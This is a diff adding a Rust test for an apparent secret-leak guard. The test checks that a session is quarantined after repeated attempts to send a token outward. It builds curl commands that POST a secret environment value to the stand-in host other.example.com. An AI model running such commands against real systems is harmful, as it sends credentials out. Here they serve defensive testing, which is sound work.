@@ -182,6 +182,34 @@ fn what_leaves_in_pieces_is_put_together() {
 }
 
 #[test]
+fn after_repeated_hits_nothing_leaves_any_more() {
+    if !has("curl") {
+        return;
+    }
+    let stage = Stage::new();
+    let path = stage.sandbox.top().join("policy.toml");
+    std::fs::write(&path, "version = 1\n[quarantine]\nhits = 2\n").unwrap();
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let value = secret(40);
+    let post = |body: &str| format!("curl -sS -d '{body}' https://other.example.com/;");
+    let script = [post("clean"), post(&value), post("clean"), post(&value), post("clean")].concat();
+    let args = ["--policy", "policy.toml", "--log", "run.log"];
+    let run = stage.run(&args, &[("SOME_TOKEN", &value)], &["sh", "-c", &script]).exits_with(0);
+    assert_eq!(stage.server.requests().len(), 2, "{run:#?}");
+    run.notes("the session is in quarantine and nothing leaves any more").notes(
+        "put in quarantine after repeated hits, the last one on its way to https://other.example.com:443",
+    );
+    let log = std::fs::read_to_string(stage.sandbox.top().join("run.log")).unwrap();
+    let began: Vec<usize> =
+        (0..5).filter(|n| log.lines().nth(*n).unwrap().contains("\"quarantine\":true")).collect();
+    assert_eq!((began, log.lines().count()), (vec![3], 5));
+    // Another run is another session.
+    let again = stage.run(&args, &[("SOME_TOKEN", &value)], &["sh", "-c", &post("clean")]);
+    again.exits_with(0);
+    assert_eq!(stage.server.requests().len(), 3);
+}
+
+#[test]
 fn the_policy_file_decides_too() {
     if !has("curl") {
         return;
